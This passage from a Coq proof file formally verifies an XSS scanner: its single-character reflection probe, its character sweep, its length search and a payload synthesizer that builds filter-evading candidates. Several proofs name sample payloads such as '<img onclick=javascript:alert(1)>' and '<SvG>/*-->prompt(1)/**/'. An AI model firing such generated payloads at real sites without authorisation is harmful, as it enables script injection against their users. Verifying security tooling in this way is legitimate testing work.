     ∧ CacheManager.cache self' !! "k" = None)
  ∧ (∃ self' w' w'',
       CacheManager.set (CacheManager.init CacheManager.default_ttl) "k" true
         (World (λ n, inject_Z (Z.of_nat n) / 2)%Q 0) = (self', w')
       ∧ CacheManager.get self' "k" w' = ((Some true, self'), w'')).
Proof.
  destruct cache_get_stale_and_set_get as [Hstale Hset]. split.
  - destruct (Hstale
                (CacheManager.Cache {[ "k" := (true, 0%Q) ]}
                   CacheManager.default_ttl)
                "k" true 0%Q (World (λ _, 301%Q) 0))
      as (self' & w' & Hget & Hgone & _).
    + reflexivity.
    + reflexivity.
    + by exists self', w'.
  - apply (Hset (CacheManager.init CacheManager.default_ttl) "k" true
             (World (λ n, inject_Z (Z.of_nat n) / 2)%Q 0)).
    vm_compute. discriminate.
Defined.

(** ** The single-character probe *)

Section ProbeProperties.

Variable E : Env.

(** What the probe computes, whichever way it gets there. *)
Lemma test_single_char_reflected (url param char : string) :
  test_single_char E url param char
  = Ok (reflected E url param (mul char 2)).
Proof.
  unfold test_single_char, reflected.
  destruct (fetch E url param (mul char 2)) as [response|e]; cbn; [|done].
  destruct (status response =? 200)%Z; cbn; [|done].
  by destruct (text response).
Qed.

Lemma reflected_true (url param marker : string) :
  reflected E url param marker = true
  ↔ ∃ test_url response content,
      build_test_url E url param marker = Ok test_url
      ∧ session_get E test_url = Ok response
      ∧ status response = 200%Z
      ∧ text response = Ok content
      ∧ contains marker content = true.
Proof.
  unfold reflected, fetch. split.
  - destruct (build_test_url E url param marker) as [test_url|] eqn:Hurl;
      cbn; [|done].
    destruct (session_get E test_url) as [response|] eqn:Hget; cbn; [|done].
    destruct (status response =? 200)%Z eqn:Hstatus; cbn; [|done].
    destruct (text response) as [content|] eqn:Htext; [|done].
    intros Hin. exists test_url, response, content.
    repeat split; try done. by apply Z.eqb_eq.
  - intros (test_url & response & content & -> & Hget & Hstatus & Htext & Hin).
    cbn. rewrite Hget. cbn. rewrite Hstatus, Htext. done.
Qed.

End ProbeProperties.

(** C3. [test_single_char] always returns a boolean, it never raises. The
    boolean is true exactly when the probe URL was built, the request was
    answered, the status is 200, the body was read and the doubled character
    occurs in it; so an exception at any step (a timeout among them) and a
    status other than 200 give false. *)
Theorem test_single_char_fail_closed (E : Env) (url param char : string) :
  ∃ b : bool,
    test_single_char E url param char = Ok b
    ∧ (b = true
       ↔ ∃ test_url response content,
           build_test_url E url param (mul char 2) = Ok test_url
           ∧ session_get E test_url = Ok response
           ∧ status response = 200%Z
           ∧ text response = Ok content
           ∧ contains (mul char 2) content = true)
    ∧ (∀ e, fetch E url param (mul char 2) = Raise e → b = false)
    ∧ (∀ response,
         fetch E url param (mul char 2) = Ok response →
         status response ≠ 200%Z ∨ (∃ e, text response = Raise e) →
         b = false).
Proof.
  exists (reflected E url param (mul char 2)).
  split; [apply test_single_char_reflected|].
  split; [apply reflected_true|].
  unfold reflected. split.
  - by intros e ->.
  - intros response -> [Hstatus|[e Htext]].
    + apply Z.eqb_neq in Hstatus. by rewrite Hstatus.
    + rewrite Htext. by destruct (status response =? 200)%Z.
Qed.

(** ** The payload synthesizer *)

Section SynthesizerProperties.

Implicit Types (analysis : ParamAnalysis) (p : string).

Lemma elem_of_update_if (cond : bool) (l : list string) p :
  p ∈ update_if cond l ↔ cond = true ∧ p ∈ l.
Proof.
  destruct cond; cbn.
  - rewrite elem_of_list_to_set. tauto.
  - rewrite elem_of_empty. intuition congruence.
Qed.

Lemma elem_of_when (cond : bool) (body : list string) p :
  p ∈ when cond body ↔ cond = true ∧ p ∈ body.
Proof.
  destruct cond; cbn.
  - tauto.
  - rewrite elem_of_nil. intuition congruence.
Qed.

(** The final filter only removes payloads. *)
Lemma elem_of_generate_payloads analysis p :
  p ∈ generate_payloads analysis
  ↔ (p ∈ get_predefined_payloads analysis
     ∨ p ∈ generate_dynamic_payloads analysis)
    ∧ fits analysis p = true ∧ keeps analysis p = true.
Proof.
  unfold generate_payloads, final_payloads.
  rewrite elem_of_elements, !elem_of_filter, elem_of_union. tauto.
Qed.

Lemma NoDup_generate_payloads analysis : NoDup (generate_payloads analysis).
Proof. unfold generate_payloads. apply NoDup_elements. Qed.

(** With the angles not allowed, only the encoded family and the
    [javascript:] evasions can be emitted. *)
Lemma angle_blocked_sources analysis p :
  allows_angles analysis = false →
  p ∈ get_predefined_payloads analysis ∨ p ∈ generate_dynamic_payloads analysis →
  p ∈ encoded_family ++ proto_evasions.
Proof.
  intros Hangles. unfold get_predefined_payloads, generate_dynamic_payloads.
  rewrite Hangles. cbn [andb negb].
  rewrite !elem_of_union, !elem_of_update_if, !elem_of_app,
    !list_elem_of_filter, elem_of_empty.
  intuition congruence.
Qed.

End SynthesizerProperties.

(** C10. For the profile returned when the viability gate fails,
    [generate_payloads] returns the six payloads of the encoded family, each
    once, and nothing else; so the list is not empty. *)
Theorem gate_failed_profile_payloads (url param : string) :
  (∀ p : string,
     p ∈ generate_payloads (gate_failed_profile url param)
     ↔ p ∈ encoded_family)
  ∧ NoDup (generate_payloads (gate_failed_profile url param))
  ∧ length (generate_payloads (gate_failed_profile url param)) = 6
  ∧ length encoded_family = 6 ∧ NoDup encoded_family.
Proof.
  remember (generate_payloads (gate_failed_profile url param)) as l eqn:Hl.
  vm_compute in Hl. subst l. unfold encoded_family.
  split; [|split; [|split; [|split]]].
  - intros p. rewrite !elem_of_cons. tauto.
  - compute_done.
  - reflexivity.
  - reflexivity.
  - compute_done.
Qed.

(** C5. With [allows_angles] false, no payload returned by
    [generate_payloads] has the character [<] among its characters. *)
Theorem no_angle_payload_when_angles_blocked (analysis : ParamAnalysis)
    (p : string) :
  allows_angles analysis = false →
  p ∈ generate_payloads analysis →
  "<" ∉ chars p.
Proof.
  intros Hangles Hp.
  apply elem_of_generate_payloads in Hp as [Hsrc _].
  apply (angle_blocked_sources _ _ Hangles) in Hsrc.
  assert (Forall (λ q, "<" ∉ chars q) (encoded_family ++ proto_evasions))
    as Hall by compute_done.
  rewrite Forall_forall in Hall. by apply Hall.
Qed.

(** The profile of a parameter that reflects nothing, and one of its
    payloads. *)
Lemma no_angle_payload_when_angles_blocked_witness :
  "<" ∉ chars "javascript:alert(1)".
Proof.
  apply (no_angle_payload_when_angles_blocked (gate_failed_profile "u" "q")).
  - reflexivity.
  - compute_done.
Defined.

(** ** The dynamic generator *)

Section GeneratorProperties.

Variable analysis : ParamAnalysis.
Implicit Types (p tag mutated_tag func event ev : string).

Lemma allowed_true c : allowed analysis c = true ↔ c ∈ allowed_chars analysis.
Proof. unfold allowed. by rewrite bool_decide_eq_true. Qed.

Lemma all_allowed_true s :
  all_allowed analysis s = true
  ↔ ∀ c, c ∈ chars s → c ∈ allowed_chars analysis.
Proof.
  unfold all_allowed. rewrite forallb_forall.
  setoid_rewrite allowed_true. setoid_rewrite list_elem_of_In. done.
Qed.

Lemma chars_allowed_nil : chars_allowed analysis [].
Proof. intros fragment Hin. by apply elem_of_nil in Hin. Qed.

Lemma chars_allowed_cons s fragments :
  all_allowed analysis s = true →
  chars_allowed analysis fragments →
  chars_allowed analysis (s :: fragments).
Proof.
  intros Hs Hrest fragment Hin c Hc.
  apply elem_of_cons in Hin as [->|Hin].
  - by apply all_allowed_true in Hc.
  - by eapply Hrest.
Qed.

(** A one-character string is its own only character. *)
Lemma chars_allowed_char c fragments :
  chars c = [c] →
  allowed analysis c = true →
  chars_allowed analysis fragments →
  chars_allowed analysis (c :: fragments).
Proof.
  intros Hchars Hc. apply chars_allowed_cons.
  unfold all_allowed. rewrite Hchars. cbn. by rewrite Hc.
Qed.

(** The tag x function loop emits nothing but its two families, each
    under its checks. *)
Lemma elem_of_tag_function_payloads p :
  p ∈ tag_function_payloads analysis
  ↔ ∃ tag mutated_tag func,
      tag ∈ base_tags
      ∧ mutated_tag ∈ get_or_self tag_mutations tag
      ∧ func ∈ js_functions
      ∧ all_allowed analysis tag = true
      ∧ all_allowed analysis mutated_tag = true
      ∧ all_allowed analysis func = true
      ∧ (allowed analysis "*" && allowed analysis "/" = true
         ∧ p ∈ comment_variants mutated_tag func
         ∨ allowed analysis NUL = true ∧ p ∈ null_variants tag func).
Proof.
  unfold tag_function_payloads. rewrite list_elem_of_bind. split.
  - intros (tag & Hp & Htag).
    apply elem_of_when in Hp as [Htag_ok Hp].
    apply list_elem_of_bind in Hp as (mutated_tag & Hp & Hmutated).
    apply elem_of_when in Hp as [Hmutated_ok Hp].
    apply elem_of_app in Hp as [Hp|Hp];
      apply elem_of_when in Hp as [Hgate Hp];
      apply list_elem_of_bind in Hp as (func & Hp & Hfunc);
      apply elem_of_when in Hp as [Hfunc_ok Hp];
      exists tag, mutated_tag, func; tauto.
  - intros (tag & mutated_tag & func & Htag & Hmutated & Hfunc
            & Htag_ok & Hmutated_ok & Hfunc_ok & Hp).
    exists tag. split; [|done].
    apply elem_of_when. split; [done|].
    apply list_elem_of_bind. exists mutated_tag. split; [|done].
    apply elem_of_when. split; [done|].
    apply elem_of_app.
    destruct Hp as [[Hgate Hp]|[Hgate Hp]]; [left|right];
      (apply elem_of_when; split; [done|]);
      apply list_elem_of_bind; exists func; (split; [|done]);
      by apply elem_of_when.
Qed.

Lemma elem_of_tag_event_payloads p :
  p ∈ tag_event_payloads analysis
  ↔ ∃ tag event ev,
      tag ∈ event_tags
      ∧ event ∈ event_handlers
      ∧ ev ∈ get_or_self event_mutations event
      ∧ allowed analysis "=" = true
      ∧ all_allowed analysis tag = true
      ∧ all_allowed analysis ev = true
      ∧ (allows_quotes analysis = true ∧ p = data_variant tag ev
         ∨ allowed analysis ":" = true ∧ p = protocol_variant tag ev
         ∨ allowed analysis "&" && allowed analysis ";" = true
           ∧ p = entity_variant tag ev).
Proof.
  unfold tag_event_payloads. rewrite elem_of_when, list_elem_of_bind. split.
  - intros (Heq & tag & Hp & Htag).
    apply elem_of_when in Hp as [Htag_ok Hp].
    apply list_elem_of_bind in Hp as (event & Hp & Hevent).
    apply list_elem_of_bind in Hp as (ev & Hp & Hev).
    apply elem_of_when in Hp as [Hev_ok Hp].
    exists tag, event, ev. repeat (split; [done|]).
    rewrite !elem_of_app, !elem_of_when, !list_elem_of_singleton in Hp.
    tauto.
  - intros (tag & event & ev & Htag & Hevent & Hev & Heq & Htag_ok & Hev_ok
            & Hp).
    split; [done|]. exists tag. split; [|done].
    apply elem_of_when. split; [done|].
    apply list_elem_of_bind. exists event. split; [|done].
    apply list_elem_of_bind. exists ev. split; [|done].
    apply elem_of_when. split; [done|].
    rewrite !elem_of_app, !elem_of_when, !list_elem_of_singleton. tauto.
Qed.

End GeneratorProperties.

(** C6, as the code has it. A tag/event/function-built payload is emitted
    by [generate_dynamic_payloads] only if every character of the fragments
    the loops range over (the tag name, the tag mutation, the event-handler
    variant and, in the tag x function families, the function name) is in
    [allowed_chars], together with the characters tested one by one for its
    family; an evasion string only if all its characters are. The fixed text
    of the templates is not among the checked fragments. *)
Theorem dynamic_payload_checked_fragments (analysis : ParamAnalysis)
    (p : string) :
  p ∈ generate_dynamic_payloads analysis → emitted_with_checks analysis p.
Proof.
  unfold generate_dynamic_payloads, emitted_with_checks.
  rewrite !elem_of_union, !elem_of_update_if, !list_elem_of_filter, elem_of_app.
  intros [[[Hgate [Hp|Hp]]|[_ [Hok Hp]]]|[_ [Hok Hp]]].
  - apply andb_prop in Hgate as [Hgate Hgt].
    apply andb_prop in Hgate as [_ Hlt].
    apply elem_of_tag_function_payloads in Hp
      as (tag & mutated_tag & func & Htag & Hmutated & Hfunc & Htag_ok
          & Hmutated_ok & Hfunc_ok & [[Hgate Hp]|[Hgate Hp]]).
    + left. exists tag, mutated_tag, func. repeat (split; [done|]).
      apply andb_prop in Hgate as [Hstar Hslash].
      repeat (apply chars_allowed_cons; [done|]).
      repeat (apply chars_allowed_char; [done|done|]).
      apply chars_allowed_nil.
    + right; left. exists tag, mutated_tag, func. repeat (split; [done|]).
      repeat (apply chars_allowed_cons; [done|]).
      repeat (apply chars_allowed_char; [done|done|]).
      apply chars_allowed_nil.
  - apply andb_prop in Hgate as [Hgate Hgt].
    apply andb_prop in Hgate as [_ Hlt].
    apply elem_of_tag_event_payloads in Hp
      as (tag & event & ev & Htag & Hevent & Hev & Heq & Htag_ok & Hev_ok & Hp).
    right; right; left. exists tag, event, ev. repeat (split; [done|]).
    split.
    { repeat (apply chars_allowed_cons; [done|]).
      repeat (apply chars_allowed_char; [done|done|]).
      apply chars_allowed_nil. }
    destruct Hp as [[Hquotes ->]|[[Hcolon ->]|[Hgate ->]]].
    + by left.
    + right; left. split; [done|].
      apply chars_allowed_char; [done|done|apply chars_allowed_nil].
    + right; right. split; [done|].
      apply andb_prop in Hgate as [Hamp Hsemi].
      repeat (apply chars_allowed_char; [done|done|]).
      apply chars_allowed_nil.
  - right; right; right. split; [apply elem_of_app; by left|].
    apply chars_allowed_cons; [done|apply chars_allowed_nil].
  - right; right; right. split; [apply elem_of_app; by right|].
    apply chars_allowed_cons; [done|apply chars_allowed_nil].
Qed.

(** The event candidate emitted for [letters_profile] from the tag [img]
    and the handler [onclick]. *)
Lemma dynamic_payload_checked_fragments_witness :
  emitted_with_checks letters_profile "<img onclick=javascript:alert(1)>".
Proof.
  apply dynamic_payload_checked_fragments. compute_done.
Defined.

(** C6 as stated fails on [letters_profile]. The candidate
    [<SvG>/*-->prompt(1)/**/] is emitted from the mutation [SvG], the
    function [prompt] and the separator [/*-->], and the character [-] of
    that separator is not allowed; the candidate
    [<img onclick=javascript:alert(1)>] is emitted from the tag [img] and the
    handler [onclick], it calls the function [alert], and the character [a]
    is not allowed. *)
Lemma dynamic_payload_unchecked_fragment :
  ("<" +:+ "SvG" +:+ ">" +:+ "/*-->" +:+ "prompt" +:+ "(1)/**/"
     ∈ generate_dynamic_payloads letters_profile
   ∧ "<" +:+ "SvG" +:+ ">" +:+ "/*-->" +:+ "prompt" +:+ "(1)/**/"
       ∈ comment_variants "SvG" "prompt"
   ∧ ¬ chars_allowed letters_profile ["/*-->"])
  ∧ ("<" +:+ "img" +:+ " " +:+ "onclick" +:+ "=javascript:" +:+ "alert"
       +:+ "(1)>"
       ∈ generate_dynamic_payloads letters_profile
     ∧ "<" +:+ "img" +:+ " " +:+ "onclick" +:+ "=javascript:" +:+ "alert"
         +:+ "(1)>"
       = protocol_variant "img" "onclick"
     ∧ "alert" ∈ js_functions
     ∧ ¬ chars_allowed letters_profile ["alert"]).
Proof.
  repeat split; try compute_done.
  - intros Hall. specialize (Hall "/*-->" ltac:(compute_done) "-"
                               ltac:(compute_done)).
    revert Hall. compute_done.
  - intros Hall. specialize (Hall "alert" ltac:(compute_done) "a"
                               ltac:(compute_done)).
    revert Hall. compute_done.
Qed.

(** ** The length search *)

Section LengthSearch.

Variable test : string → M bool.
Variable L : Z.

(** The test accepts exactly the lengths up to [L], on the range searched. *)
Hypothesis test_monotone :
  ∀ (mid : Z) (w : world),
    (10 ≤ mid ≤ 5000)%Z → fst (test (mul "A" mid) w) = (mid <=? L)%Z.

Lemma mid_between (left_ right_ : Z) :
  (left_ ≤ right_ → left_ ≤ (left_ + right_) / 2 ≤ right_)%Z.
Proof.
  intros H. split; [apply Z.div_le_lower_bound | apply Z.div_le_upper_bound]; lia.
Qed.

(** The loop ends with [right] on the boundary, clipped to the interval it
    was started on. *)
Lemma length_search_boundary (left_ right_ : Z) (w : world) :
  (10 ≤ left_)%Z → (right_ ≤ 5000)%Z → (left_ ≤ right_ + 1)%Z →
  fst (length_search test left_ right_ w)
  = Z.max (left_ - 1) (Z.min L right_).
Proof.
  funelim (length_search test left_ right_ w); intros Hlo Hhi Hle.
  - cbn. lia.
  - pose proof (mid_between left_ right_ l) as Hmid.
    pose proof (test_monotone ((left_ + right_) / 2) w ltac:(lia)) as Htest.
    rewrite Heq in Htest. cbn in Htest. symmetry in Htest.
    apply Z.leb_le in Htest.
    rewrite H by lia. lia.
  - pose proof (mid_between left_ right_ l) as Hmid.
    pose proof (test_monotone ((left_ + right_) / 2) w ltac:(lia)) as Htest.
    rewrite Heq in Htest. cbn in Htest. symmetry in Htest.
    apply Z.leb_gt in Htest.
    rewrite H by lia. lia.
Qed.

(** On a boundary inside [10, 5000] the search returns the boundary. *)
Lemma quick_test_length_exact (w : world) :
  (10 ≤ L ≤ 5000)%Z → fst (quick_test_length_with test w) = Some L.
Proof.
  intros HL. unfold quick_test_length_with, bind, ret.
  pose proof (length_search_boundary 10 5000 w ltac:(lia) ltac:(lia) ltac:(lia))
    as Hb.
  destruct (length_search test 10 5000 w) as [right_ w']. cbn in *. subst.
  replace (Z.max (10 - 1) (Z.min L 5000)) with L by lia.
  by destruct (Z.ltb_spec 0 L); [|lia].
Qed.

(** On a boundary below 10 every test fails, [right] ends at 9 and 9 is
    returned: the [else None] of the source is never taken. *)
Lemma quick_test_length_below (w : world) :
  (L < 10)%Z → fst (quick_test_length_with test w) = Some 9%Z.
Proof.
  intros HL. unfold quick_test_length_with, bind, ret.
  pose proof (length_search_boundary 10 5000 w ltac:(lia) ltac:(lia) ltac:(lia))
    as Hb.
  destruct (length_search test 10 5000 w) as [right_ w']. cbn in *. subst.
  by replace (Z.max (10 - 1) (Z.min L 5000)) with 9%Z by lia.
Qed.

End LengthSearch.

(** Whatever the test answers, the search ends with [right >= 9]: the result
    is never [None]. *)
Lemma length_search_lower (test : string → M bool) (left_ right_ : Z)
    (w : world) :
  (left_ ≤ right_ + 1)%Z →
  (left_ - 1 ≤ fst (length_search test left_ right_ w))%Z.
Proof.
  funelim (length_search test left_ right_ w); intros Hle.
  - cbn. lia.
  - pose proof (mid_between left_ right_ l).
    etrans; [|apply H]; lia.
  - pose proof (mid_between left_ right_ l).
    etrans; [|apply H]; lia.
Qed.

(** Whatever the test, [quick_test_length] returns a length, at least 9. *)
Lemma quick_test_length_is_Some (test : string → M bool) (w : world) :
  ∃ n, fst (quick_test_length_with test w) = Some n ∧ (9 ≤ n)%Z.
Proof.
  unfold quick_test_length_with, bind, ret.
  pose proof (length_search_lower test 10 5000 w ltac:(lia)) as Hlow.
  destruct (length_search test 10 5000 w) as [right_ w']. cbn in *.
  exists right_. split; [|lia].
  by destruct (Z.ltb_spec 0 right_); [|lia].
Qed.

(** C2, the part the code breaks. For a test that accepts exactly the
    lengths up to a boundary [L < 10], [quick_test_length] returns the
    length 9, which was never tested, where C2 has it return nothing;
    it returns [L] itself for a boundary between 10 and 5000. *)
Theorem quick_test_length_never_absent (test : string → M bool) (L : Z)
    (w : world) :
  (∀ (mid : Z) (w : world),
     (10 ≤ mid ≤ 5000)%Z → fst (test (mul "A" mid) w) = (mid <=? L)%Z) →
  ((L < 10)%Z → fst (quick_test_length_with test w) = Some 9%Z)
  ∧ ((10 ≤ L ≤ 5000)%Z → fst (quick_test_length_with test w) = Some L).
Proof.
  intros Hmono. split.
  - by apply quick_test_length_below.
  - by apply quick_test_length_exact.
Qed.

(** A test that rejects every length, the boundary being 0. *)
Lemma quick_test_length_never_absent_witness :
  fst (quick_test_length_with (λ _, ret false) (World (λ _, 0%Q) 0))
  = Some 9%Z.
Proof.
  apply (quick_test_length_never_absent (λ _, ret false) 0).
  - intros mid w Hmid. cbn. symmetry. apply Z.leb_gt. lia.
  - lia.
Defined.

(** ** The character sweep *)

Section SweepProperties.

Variable E : Env.
Variables url param : string.


Lemma gather_probes_map (batch : list string) :
  gather_probes E url param batch = Ok (map (probe E url param) batch).
Proof.
  unfold gather_probes. induction batch as [|char batch IH]; [done|].
  cbn. rewrite test_single_char_reflected. cbn.
  unfold gather_probes in IH. by rewrite IH.
Qed.

Lemma dom_dict_of_aux (pairs : list (string * bool)) (d : gmap string bool) :
  dom (foldl (λ d kv, <[fst kv := snd kv]> d) d pairs)
  = dom d ∪ list_to_set (map fst pairs).
Proof.
  revert d. induction pairs as [|[k v] pairs IH]; intros d; cbn.
  - by rewrite (right_id_L ∅ (∪)).
  - rewrite IH, dom_insert_L.
    by rewrite (comm_L (∪) {[k]}), <- (assoc_L (∪)).
Qed.

Lemma dom_dict_of (pairs : list (string * bool)) :
  dom (dict_of pairs) = list_to_set (map fst pairs).
Proof.
  unfold dict_of. by rewrite dom_dict_of_aux, dom_empty_L, (left_id_L ∅ (∪)).
Qed.

(** Every character of a batch gets its entry. *)
Lemma dom_batch_results (batch : list string) (results : gmap string bool) :
  dom (dict_update results (dict_of (zip batch (map (probe E url param) batch))))
  = dom results ∪ list_to_set batch.
Proof.
  unfold dict_update. rewrite dom_union_L, dom_dict_of.
  rewrite fst_zip by (rewrite length_map; lia). apply (comm_L (∪)).
Qed.

Lemma sweep_batches_dom (char_batches : list (list string))
    (results : gmap string bool) :
  ∃ results',
    sweep_batches E url param char_batches results = Ok results'
    ∧ dom results'
      = dom results ∪ list_to_set (batch ← char_batches; batch).
Proof.
  revert results.
  induction char_batches as [|batch rest IH]; intros results; cbn.
  - exists results. split; [done|]. by rewrite (right_id_L ∅ (∪)).
  - rewrite gather_probes_map. cbn.
    destruct (IH (dict_update results (dict_of (zip batch (map (probe E url param) batch)))))
      as (results' & -> & Hdom).
    exists results'. split; [done|].
    by rewrite Hdom, dom_batch_results, list_to_set_app_L, (assoc_L (∪)).
Qed.

Lemma sweep_groups_dom (groups : list (string * string))
    (results : gmap string bool) :
  ∃ results',
    sweep_groups E url param groups results = Ok results'
    ∧ dom results'
      = dom results
        ∪ list_to_set ('(group_name, chars_) ← groups;
                       batch ← batches (chars chars_); batch).
Proof.
  revert results.
  induction groups as [|[group_name chars_] rest IH]; intros results; cbn.
  - exists results. split; [done|]. by rewrite (right_id_L ∅ (∪)).
  - destruct (sweep_batches_dom (batches (chars chars_)) results)
      as (results1 & -> & Hdom1). cbn.
    destruct (IH results1) as (results' & -> & Hdom).
    exists results'. split; [done|].
    by rewrite Hdom, Hdom1, list_to_set_app_L, (assoc_L (∪)).
Qed.

End SweepProperties.

Lemma elem_of_chars_with (outcome : bool) (results : gmap string bool)
    (c : string) :
  c ∈ chars_with outcome results ↔ results !! c = Some outcome.
Proof.
  unfold chars_with. rewrite elem_of_dom. unfold is_Some.
  setoid_rewrite map_lookup_filter_Some. cbn. split.
  - by intros (v & Hv & ->).
  - intros Hc. by exists outcome.
Qed.

(** The two classes of a results dict split its keys. *)
Lemma chars_with_partition (results : gmap string bool) :
  chars_with true results ## chars_with false results
  ∧ chars_with true results ∪ chars_with false results = dom results.
Proof.
  split.
  - intros c. rewrite !elem_of_chars_with. congruence.
  - apply set_eq. intros c.
    rewrite elem_of_union, !elem_of_chars_with, elem_of_dom. unfold is_Some.
    split.
    + intros [Hc|Hc]; eauto.
    + intros [[] Hc]; eauto.
Qed.

(** What [analyze_parameter] returns, step by step: it raises only if the
    status line cannot be printed or the group [basic] is missing; with the
    gate failed it returns the empty profile; otherwise the two classes of
    the results of the sweep. *)
Lemma analyze_parameter_cases (E : Env) (url param : string) (w : world) :
  (∃ e, fst (analyze_parameter E url param w) = Raise e
        ∧ (console_print E (status_line param) = Raise e
           ∨ getitem (char_groups E) "basic" = Raise e))
  ∨ (viability_gate E url param = Ok false
     ∧ analyze_parameter E url param w = (Ok (gate_failed_profile url param), w))
  ∨ (viability_gate E url param = Ok true
     ∧ ∃ results analysis,
         fst (analyze_parameter E url param w) = Ok analysis
         ∧ sweep_groups E url param (char_groups E) ∅ = Ok results
         ∧ dom results = list_to_set (swept_chars E)
         ∧ allowed_chars analysis = chars_with true results
         ∧ blocked_chars analysis = chars_with false results
         ∧ param_of analysis = param).
Proof.
  unfold analyze_parameter, viability_gate, bind, ret, mbind, result_bind.
  destruct (console_print E (status_line param)) as [[]|e]; [|left; eauto].
  destruct (getitem (char_groups E) "basic") as [basic|e]; [|left; eauto].
  cbv beta iota zeta. rewrite !gather_probes_map.
  destruct (any _); cbn [negb]; cbv beta iota zeta; [|right; left; done].
  right; right. split; [done|].
  destruct (sweep_groups_dom E url param (char_groups E) ∅)
    as (results & -> & Hdom).
  cbv beta iota zeta.
  destruct (quick_test_scripts E url param w) as [scripts w1].
  destruct (quick_test_events E url param w1) as [events w2].
  destruct (quick_test_length E url param w2) as [length_ w3].
  rewrite dom_empty_L, (left_id_L ∅ (∪)) in Hdom.
  eexists results, _. by repeat split.
Qed.

(** C8. In a profile returned by [analyze_parameter], no character is both
    allowed and blocked, and the characters that are one or the other are
    the characters probed during the full sweep. *)
Theorem analyze_parameter_partition (E : Env) (url param : string)
    (w w' : world) (analysis : ParamAnalysis) :
  analyze_parameter E url param w = (Ok analysis, w') →
  allowed_chars analysis ## blocked_chars analysis
  ∧ allowed_chars analysis ∪ blocked_chars analysis
    = probed_in_sweep E url param.
Proof.
  intros Hrun. unfold probed_in_sweep.
  destruct (analyze_parameter_cases E url param w)
    as [(e & Hraise & _)|[[Hgate Hfail]|(Hgate & results & analysis' & Hok
                                         & _ & Hdom & Hallowed & Hblocked & _)]].
  - rewrite Hrun in Hraise. discriminate Hraise.
  - rewrite Hgate. rewrite Hrun in Hfail. injection Hfail as -> _. cbn.
    split; [|by rewrite (left_id_L ∅ (∪))].
    intros c Hc. by apply elem_of_empty in Hc.
  - rewrite Hgate. rewrite Hrun in Hok. cbn in Hok. injection Hok as <-.
    rewrite Hallowed, Hblocked, <- Hdom. apply chars_with_partition.
Qed.

(** The page of [letters_env]: [a] is reflected, [1], [<] and [>] are not. *)
Lemma analyze_parameter_partition_witness :
  allowed_chars letters_env_profile ## blocked_chars letters_env_profile
  ∧ allowed_chars letters_env_profile ∪ blocked_chars letters_env_profile
    = probed_in_sweep letters_env page_url "q".
Proof.
  apply (analyze_parameter_partition letters_env page_url "q" still_world
           (snd (analyze_parameter letters_env page_url "q" still_world))).
  vm_compute. reflexivity.
Defined.

(** ** Errors during the analysis of a URL *)

Section UrlProperties.

Variable E : Env.

(** The network cannot make [analyze_parameter] raise: with the status line
    printed and the group [basic] present it returns a profile, whatever
    the requests do. *)
Lemma analyze_parameter_returns (url param : string) (w : world) :
  console_print E (status_line param) = Ok () →
  (∃ basic, getitem (char_groups E) "basic" = Ok basic) →
  ∃ analysis, fst (analyze_parameter E url param w) = Ok analysis.
Proof.
  intros Hprint [basic Hbasic].
  destruct (analyze_parameter_cases E url param w)
    as [(e & _ & [He|He])|[[_ Hfail]|(_ & _ & analysis & Hok & _)]].
  - congruence.
  - congruence.
  - rewrite Hfail. by eexists.
  - by exists analysis.
Qed.

(** An exception that leaves the loop over the parameters empties the
    result of the URL. *)
Lemma analyze_url_raise (url : string) (w : world) (e : exn) :
  fst (analyze_params E url (map fst (extract_parameters E url)) [] w)
  = Raise e →
  fst (analyze_url E url w) = [].
Proof.
  unfold analyze_url. destruct (extract_parameters E url) as [|kv params].
  - done.
  - unfold bind, ret.
    destruct (analyze_params E url (map fst (kv :: params)) [] w) as [r w'].
    cbn. by intros ->.
Qed.

(** [analyze_parameter] raises before it reads the clock, and whether it
    raises does not depend on the clock. *)
Lemma analyze_parameter_raises (url param : string) (w0 w : world) (e : exn) :
  fst (analyze_parameter E url param w0) = Raise e →
  analyze_parameter E url param w = (Raise e, w).
Proof.
  intros Hraise.
  destruct (analyze_parameter_cases E url param w0)
    as [(e0 & He0 & Hcause)|[[_ Hfail]|(_ & _ & analysis & Hok & _)]].
  - rewrite Hraise in He0. injection He0 as <-.
    unfold analyze_parameter, bind, ret.
    destruct Hcause as [Hprint|Hbasic]; [by rewrite Hprint|].
    destruct (console_print E (status_line param)) as [[]|e'] eqn:Hprint.
    + by rewrite Hbasic.
    + unfold analyze_parameter, bind, ret in Hraise.
      rewrite Hprint in Hraise. cbn in Hraise. by injection Hraise as ->.
  - rewrite Hfail in Hraise. discriminate Hraise.
  - rewrite Hok in Hraise. discriminate Hraise.
Qed.

(** The loop over the parameters has no handler of its own: if the analysis
    of one of the parameters raises, the loop raises, whatever it has
    accumulated for the parameters before. *)
Lemma analyze_params_raises (url param : string) (params : list string)
    (results : list (string * list string)) (w0 w : world) (e : exn) :
  param ∈ params →
  fst (analyze_parameter E url param w0) = Raise e →
  ∃ e', fst (analyze_params E url params results w) = Raise e'.
Proof.
  intros Hparam Hraise. revert results w.
  induction params as [|param0 rest IH]; intros results w;
    [by apply elem_of_nil in Hparam|].
  cbn [analyze_params]. unfold bind.
  destruct (analyze_parameter E url param0 w) as [[analysis|e0] w1] eqn:Hrun;
    [|by exists e0].
  apply elem_of_cons in Hparam as [->|Hparam]; [|by apply IH].
  rewrite (analyze_parameter_raises url param0 w0 w e Hraise) in Hrun.
  discriminate Hrun.
Qed.

(** So the URL gives nothing. *)
Lemma analyze_url_discards (url param : string) (w0 w : world) (e : exn) :
  param ∈ map fst (extract_parameters E url) →
  fst (analyze_parameter E url param w0) = Raise e →
  fst (analyze_url E url w) = [].
Proof.
  intros Hparam Hraise.
  destruct (analyze_params_raises url param _ [] w0 w e Hparam Hraise)
    as [e' He'].
  by apply (analyze_url_raise url w e').
Qed.

(** The loop over the URLs goes on after a URL that gave nothing. *)
Lemma collect_skip (url : string) (rest : list string)
    (unique_payloads : gset string) (w : world) :
  fst (analyze_url E url w) = [] →
  collect E (url :: rest) unique_payloads w
  = collect E rest unique_payloads (snd (analyze_url E url w)).
Proof.
  cbn [collect]. unfold bind.
  destruct (analyze_url E url w) as [result w']. cbn. by intros ->.
Qed.

Lemma foldl_update_subseteq (lists : list (list string))
    (unique_payloads : gset string) :
  unique_payloads
  ⊆ foldl (λ unique param_payloads, unique ∪ list_to_set param_payloads)
      unique_payloads lists.
Proof.
  revert unique_payloads.
  induction lists as [|l lists IH]; intros unique_payloads; cbn; [done|].
  etrans; [|apply IH]. apply union_subseteq_l.
Qed.

(** What has been accumulated is never lost. *)
Lemma collect_keeps (urls : list string) (unique_payloads : gset string)
    (w : world) :
  unique_payloads ⊆ fst (collect E urls unique_payloads w).
